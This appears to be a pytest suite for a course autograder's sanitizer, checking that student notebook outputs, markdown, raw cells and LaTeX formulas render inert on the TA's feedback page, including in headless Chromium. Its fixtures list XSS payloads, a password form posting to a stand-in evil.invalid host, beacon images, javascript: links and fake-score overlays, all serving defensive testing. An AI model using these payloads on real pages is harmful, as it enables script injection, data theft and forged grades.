"""What a student puts in a notebook reaches the TA's pages inert: sanitize.SanitizeOutputs, and
the feedback export (feedback.FeedbackHTML) with it, checked on the markup and, where Debian's
Chromium and Playwright are installed, in a headless browser."""
import base64
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from jupyter_core.paths import jupyter_config_dir
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from autograder.grading import sanitize
from autograder.grading.feedback import FeedbackHTML, PREPROCESSORS
from autograder.grading.sanitize import SanitizeOutputs

PNG = base64.b64encode(bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000100ffff03000006000557bfabd40000000049454e44ae426082")).decode()
PWN = 'document.title = "pwned"; window.pwned = 1;'
BANNER = ('<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999">'
          '<h1>Score: 24 / 24</h1></div>')
EVIL = "http://evil.invalid"
ATTACKS = [                                     # the same HTML goes in outputs and in a written answer
    f"<script>{PWN}</script>",
    f'<img src="x" onerror=\'{PWN}\'>',
    BANNER,
    f'<div style="position: fixed; top: 0">Score: 24/24</div><a href="javascript:{PWN}">see my answer</a>',
    '<div class="navbar navbar-fixed-top">Score: 24/24</div>',
    f'<iframe src="javascript:{PWN}"></iframe><svg onload=\'{PWN}\'></svg><object data="x.swf"></object>',
    f'<embed src="x"><form action="{EVIL}/steal"><input type="password"></form>',
    f'<style>#notebook {{ position: fixed; }}</style><img src="{EVIL}/beacon.png">',
    f'<details open ontoggle=\'{PWN}\'><summary>x</summary></details><p onclick=\'{PWN}\' onmouseover=\'{PWN}\'>hover</p>',
]
MARKDOWN_ATTACKS = [f"[click](javascript:{PWN})", "[x](&#106;avascript:window.pwned=1)", f"![t]({EVIL}/t.png)",
                    "<javascript:window.pwned=1>"]
# Formulas become MathML on the feedback page (feedback.MathMLRenderer); latex2mathml copies \text{...} as it
# is and turns \href and \style into attributes.
LATEX_ATTACKS = [f"$\\text{{</mtext></math><img src=x onerror='{PWN}'>}}$",
                 f"$$\\text{{</mtext></math><script>{PWN}</script>}}$$",
                 f"$\\href{{javascript:{PWN}}}{{x}}$",
                 "$\\style{position:fixed;top:0;left:0}{\\text{Score: 24 / 24}}$",
                 f"$\\href{{{EVIL}/beacon.png}}{{y}}$"]


def display(data, metadata=None, kind="display_data"):
    extra = {"execution_count": 1} if kind == "execute_result" else {}
    return new_output(kind, data=data, metadata=metadata or {}, **extra)


def attacked_notebook():
    outputs = [display({"text/html": html, "text/plain": "<IPython.core.display.HTML object>"}) for html in ATTACKS]
    outputs += [
        display({"application/javascript": PWN, "text/plain": "<IPython.core.display.Javascript object>"}),
        display({"application/javascript": PWN}),
        display({"text/javascript": PWN, "application/x-javascript": PWN, "text/plain": "js"}),
        display({"application/vnd.jupyter.widget-view+json": {"model_id": "abc", "version_major": 2}}),
        display({"text/html": f"<b>isolated</b><script>{PWN}</script>"}, {"text/html": {"isolated": True}}),
        display({"image/png": PNG, "text/plain": "<Figure size 640x480 with 1 Axes>"},
                {"filenames": {"image/png": f"{EVIL}/x.png"}, "image/png": {"width": 10, "height": 10}}),
        # nbconvert writes width and height unquoted: an attribute of the student's, even with sanitize_html
        display({"image/jpeg": "AAAA"}, {"width": f"1 onerror={PWN}", "image/jpeg": {"height": f"1 onerror={PWN}"}}),
        display({"text/markdown": "\n\n".join(MARKDOWN_ATTACKS + ATTACKS), "text/plain": "md"}, kind="execute_result"),
        new_output("stream", name="stdout", text=f"plain text kept <script>{PWN}</script>\n"),
    ]
    cells = [
        new_markdown_cell("## Question 1\n\nMy answer, **in bold**, with $x^2$ and `a < b`.\n\n> quoted\n\n"
                          + "\n\n".join(MARKDOWN_ATTACKS + ATTACKS)),
        new_code_cell("show()", outputs=outputs, execution_count=1),
        new_raw_cell("\n".join(ATTACKS)),
        new_markdown_cell("My derivation: $\\frac{\\partial L}{\\partial W} = X^\\top (P - Y)$\n\n"
                          + "\n\n".join(LATEX_ATTACKS)),      # no HTML outside math: kept as written
    ]
    nb = new_notebook(cells=cells, metadata={
        "language_info": {"name": "python"},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}}})
    return nb


def sanitized():
    nb, _ = SanitizeOutputs().preprocess(attacked_notebook(), {})
    return nb


# ---------------------------------------------------------------- the markup, tag by tag

DANGEROUS_TAGS = {"script", "style", "iframe", "object", "embed", "form", "svg", "link", "meta", "base", "frame"}


class Markup(HTMLParser):
    """Every start tag and attribute, as a browser would parse them (quirks aside)."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.tags = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def assert_inert(html, allowed_scripts=0):
    """No tag that runs or embeds, no handler, no javascript: URL, nothing fetched from the student's
    server (a link may point there: it is only followed if clicked), no positioned style."""
    tags = Markup(html).tags
    dangerous = [(tag, attrs) for tag, attrs in tags if tag in DANGEROUS_TAGS]
    assert len(dangerous) == allowed_scripts, dangerous
    for tag, attrs in tags:
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, value)
            if name in ("href", "src") and tag not in ("script", "link"):
                assert not re.match(r"\s*(javascript|vbscript|data:text)", value or "", re.I), (tag, name, value)
                assert name == "href" or "evil.invalid" not in (value or ""), (tag, name, value)  # links may stay
            if name == "style":
                assert "position" not in value, (tag, value)
            if name == "class":
                assert "fixed" not in value and "navbar" not in value, (tag, value)


def outputs_html(cell):
    return "\n".join(str(value) for output in cell.outputs for value in output.get("data", {}).values())


def test_outputs_keep_text_and_images_and_lose_everything_that_runs():
    cell = sanitized().cells[1]
    kinds = {key for output in cell.outputs for key in output.get("data", {})}
    assert kinds <= sanitize.KEEP | sanitize.CLEAN, kinds
    assert_inert(outputs_html(cell))
    png = [output for output in cell.outputs if "image/png" in output.get("data", {})]
    assert png and png[0].data["image/png"] == PNG and png[0].data["text/plain"].startswith("<Figure")
    assert png[0].metadata == {"image/png": {"width": 10, "height": 10}}       # no `filenames`
    jpeg = [output for output in cell.outputs if "image/jpeg" in output.get("data", {})]
    assert jpeg[0].metadata == {"image/jpeg": {}}       # sizes that are not numbers: written unquoted
    assert all("isolated" not in str(output.get("metadata", {})) for output in cell.outputs)
    assert cell.outputs[-1].text.startswith("plain text kept <script>")      # text stays text (escaped at export)
    removed = [output.data["text/plain"] for output in cell.outputs
               if output.get("data", {}).get("text/plain", "").startswith("[output removed by the grader")]
    assert removed == ["[output removed by the grader: application/javascript]",
                       "[output removed by the grader: application/vnd.jupyter.widget-view+json]"]
    kept = [output.data["text/plain"] for output in cell.outputs if "text/plain" in output.get("data", {})]
    assert "<IPython.core.display.Javascript object>" in kept and "js" in kept


def test_written_answers_and_raw_cells_are_cleaned_and_keep_their_text():
    nb = sanitized()
    answer, raw = nb.cells[0].source, nb.cells[2].source
    assert "Score: 24 / 24" in answer and "Question 1" in answer          # what the student wrote, as text
    assert_inert(sanitize.render_markdown(answer))
    assert_inert(raw)
    assert "widgets" not in nb.metadata


def test_benign_markdown_is_left_as_written():
    text = ("# Title\n\nA formula $\\frac{a}{b} < 1$, `List<int>`-free code `a < b && c`, **bold**,\n\n"
            "> a quote\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n![fig](attachment:fig.png)\n\n"
            "[the book](https://example.org/book) and [section 2](#2.-The-data)")
    assert sanitize.clean_markdown(text) == text


REPO = Path(__file__).resolve().parent.parent


@pytest.mark.parametrize("notebook", sorted(REPO.glob("notebooks/*/*.ipynb")) + sorted(REPO.glob("solutions/*/*.ipynb")),
                         ids=lambda p: f"{p.parent.parent.name}/{p.name}")
def test_the_course_notebooks_markdown_is_unchanged(notebook):
    nb = nbformat.read(str(notebook), as_version=4)
    for cell in nb.cells:
        if cell.cell_type == "markdown":
            assert sanitize.clean_markdown(cell.source) == cell.source


def test_markdown_links_that_run_or_fetch_are_replaced():
    for text in MARKDOWN_ATTACKS:
        cleaned = sanitize.clean_markdown(text)
        rendered = sanitize.render_markdown(cleaned)
        assert_inert(rendered)
        assert not re.search(r"(href|src)=\"(javascript|http://evil)", rendered), rendered


def test_allowed_classes_position_nothing_on_the_feedback_page():
    """The feedback page's own CSS (Bootstrap, Jupyter's, pygments') positions no allowed class, and
    no element by id (a heading's id is the student's)."""
    html, _ = export(sanitized())
    css = "\n".join(re.findall(r"<style[^>]*>(.*?)</style>", html, re.S))
    positioned = set()
    for selectors, body in re.findall(r"([^{}]+)\{([^{}]*)\}", css):
        if re.search(r"position\s*:\s*(fixed|absolute|sticky)", body):
            positioned |= set(re.findall(r"([.#]-?[_a-zA-Z][\w-]*)", selectors))
    allowed = {c for c in positioned if c[1:] in sanitize.CLASSES or c.startswith(".hl-") or c.startswith("#")}
    assert positioned and not allowed, allowed


# ---------------------------------------------------------------- the feedback page

def export(nb, template="feedback"):
    """What feedback.Feedback writes: nbgrader's feedback template, our preprocessors' last steps."""
    import nbgrader
    root = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader"
    exporter = FeedbackHTML(template_name=template, extra_template_basedirs=[str(root / "templates")],
                            extra_template_paths=[str(root / "static" / "node_modules" / "bootstrap" / "dist" / "css")])
    resources = {"nbgrader": {"notebook": "x", "score": 0.0, "max_score": 24.0, "late_penalty": 0},
                 "config_dir": jupyter_config_dir()}
    for step in PREPROCESSORS[PREPROCESSORS.index(SanitizeOutputs):]:
        nb, resources = step().preprocess(nb, resources)
    return exporter.from_notebook_node(nb, resources)


def student_part(html):
    """The page from the notebook's first cell on (the template's own head and scripts are before it)."""
    return html[html.index('id="notebook-container"' if 'id="notebook-container"' in html else "<main>"):]


@pytest.mark.parametrize("template", ["feedback", "lab"])
def test_feedback_html_runs_nothing_from_the_student(template):
    page, _ = export(attacked_notebook(), template)
    html = student_part(page)
    assert_inert(html)
    assert "Score: 24 / 24" in html and "plain text kept &lt;script&gt;" in html
    for word in ("<script", "onerror=", "ontoggle=", "onclick=", "position:fixed", "position: fixed", "javascript:"):
        # as markup; as escaped text it may stay (the TA reads what the student wrote)
        assert not re.search(rf"<[a-z][^<>]*{re.escape(word)}", html, re.I), word
    assert f'src="data:image/png;base64,{PNG}"' in html


@pytest.mark.filterwarnings("ignore:Your element with mimetype")   # the widget view it cannot show
def test_feedback_even_without_the_preprocessor_cleans_what_it_renders():
    """FeedbackHTML alone (sanitize_html on, whatever the config) still writes no student script."""
    html, _ = FeedbackHTML().from_notebook_node(attacked_notebook(), {})
    body = html.split("</head>", 1)[1]
    assert not re.search(r"<script(?![^>]*(mathjax|text/x-mathjax-config))", body, re.I), \
        re.findall(r"<script[^>]*>.{0,80}", body)
    assert not re.search(r"<[a-z][^<>]*\bon(error|load|click|toggle|mouseover)\s*=", body, re.I)
    assert not re.search(r"<[a-z][^<>]*style=\"[^\"]*position", body, re.I)


# ---------------------------------------------------------------- in a browser

CHROMIUM = "/usr/bin/chromium"


def browser_page():
    if not os.path.exists(CHROMIUM):
        pytest.skip(f"no headless browser: {CHROMIUM} is not installed (Debian's chromium package)")
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        pytest.skip("no headless browser: the playwright Python package is not installed")
    return sync_playwright


def test_feedback_page_in_chromium_runs_no_student_script_and_fetches_nothing_of_theirs(tmp_path):
    sync_playwright = browser_page()
    html, _ = export(attacked_notebook())
    page_path = tmp_path / "x.html"
    page_path.write_text(html)
    requests = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=[
            "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
            "--disable-sync", "--no-first-run"])
        try:
            page = browser.new_page()
            dialogs = []
            page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

            def route(request_route):
                url = request_route.request.url
                if url.startswith(("file:", "data:")):
                    request_route.continue_()
                else:                      # nothing leaves the machine; what was asked is recorded
                    requests.append(url)
                    request_route.abort()

            page.route("**/*", route)
            page.goto(page_path.as_uri(), wait_until="load")
            page.wait_for_timeout(500)
            for selector in ("a", "img", "p", "details", "div"):    # hover and click what could react
                for element in page.query_selector_all(f"#notebook-container {selector}")[:40]:
                    try:
                        element.hover(timeout=200)
                        if selector in ("p", "details"):
                            element.click(timeout=200)
                    except Exception:  # noqa: BLE001 - hidden or detached elements
                        pass
            page.wait_for_timeout(300)
            title, pwned, scripts = page.evaluate("[document.title, window.pwned, document.scripts.length]")
            formulas = page.evaluate("Array.from(document.querySelectorAll('math'), m => m.getBoundingClientRect().width)")
            positioned = page.evaluate("""Array.from(document.querySelectorAll('#notebook-container *'))
                .filter(e => ['fixed', 'absolute', 'sticky'].includes(getComputedStyle(e).position))
                .map(e => e.outerHTML.slice(0, 120))""")
            page.goto("about:blank")
        finally:
            browser.close()
    assert title == "x" and pwned is None and not dialogs, (title, pwned, dialogs)
    assert positioned == [], positioned
    student = [url for url in requests if "evil.invalid" in url]
    assert student == [], student
    assert requests == [], requests         # the page fetches nothing at all (no MathJax: formulas are MathML)
    # the formulas of the last cell, typeset (the first is a real one; an attack's may be empty)
    assert scripts == 0 and len(formulas) == 1 + len(LATEX_ATTACKS) and formulas[0] > 20, (scripts, formulas)


def test_formulas_keep_their_spacing_and_lose_what_could_draw_over_the_page():
    """MathML is allowed for the feedback's formulas, with sizes and spaces only as small non-negative
    lengths: mpadded's voffset moves text without its box, and a negative or huge space slides it over
    the page (a fake "Score: 24 / 24" over the real one)."""
    from latex2mathml.converter import convert
    spaced = sanitize.clean_html(convert(r"a\,b\quad c \Huge d"))
    assert 'width="0.167em"' in spaced and 'width="1em"' in spaced and 'mathsize="2.49em"' in spaced
    forged = sanitize.clean_html('<math><mpadded voffset="-500px" width="-3em" height="900px"><mtext>Score: 24 / 24'
                                 '</mtext></mpadded><mspace width="-900px"></mspace><mstyle mathsize="400px">'
                                 '<mi>x</mi></mstyle></math>')
    assert "Score: 24 / 24" in forged and not re.search(r"(voffset|width|height|mathsize)=", forged), forged


OVERLAYS = [   # formulas that try to paint a fake score above their own cell, over the page's summary
    '<math><mpadded height="0" depth="0"><mover><mspace width="1em" height="15em"></mspace>'
    '<mtext mathbackground="white">FORGED-1 Score: 24 / 24</mtext></mover></mpadded></math>',
    '<math style="height: 0"><mover><mspace width="1em" height="15em"></mspace><mtext>FORGED-2</mtext></mover></math>',
    '<math><mrow style="height: 0; line-height: 0"><mover><mspace width="1em" height="15em"></mspace>'
    '<mtext>FORGED-3</mtext></mover></mrow></math>',
]


def test_a_formula_paints_only_inside_its_own_cell_in_chromium(tmp_path):
    """Two layers stop the first (found by a review): the sanitizer drops mpadded's height and depth, and
    the page's CSS contains a cell's painting (contain: paint). Without both, FORGED-1 is drawn 200 px
    above its cell, over what came before."""
    sync_playwright = browser_page()
    cells = [new_markdown_cell("## Question 1"), new_code_cell("1 + 1", execution_count=1, outputs=[
        display({"text/plain": "2"}, kind="execute_result")])] + [new_markdown_cell(f"My answer: {o}") for o in OVERLAYS]
    html, _ = export(new_notebook(cells=cells, metadata={"language_info": {"name": "python"}}))
    page_path = tmp_path / "overlay.html"
    page_path.write_text(html)
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        try:
            page = browser.new_page(viewport={"width": 1366, "height": 900})
            page.goto(page_path.as_uri(), wait_until="load")
            escaped = page.evaluate("""() => [...document.querySelectorAll('mtext')]
                .filter(e => e.textContent.startsWith('FORGED')).map(e => {
                    const box = e.getBoundingClientRect(), cell = e.closest('.text_cell_render').getBoundingClientRect();
                    const inside = box.top >= cell.top - 1 && box.bottom <= cell.bottom + 1;
                    const hit = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
                    return [e.textContent, inside, !!hit && e.contains(hit)];
                }).filter(([text, inside, seen]) => !inside && seen)""")
        finally:
            browser.close()
    assert escaped == [], escaped        # drawn outside its cell and visible there: an overlay
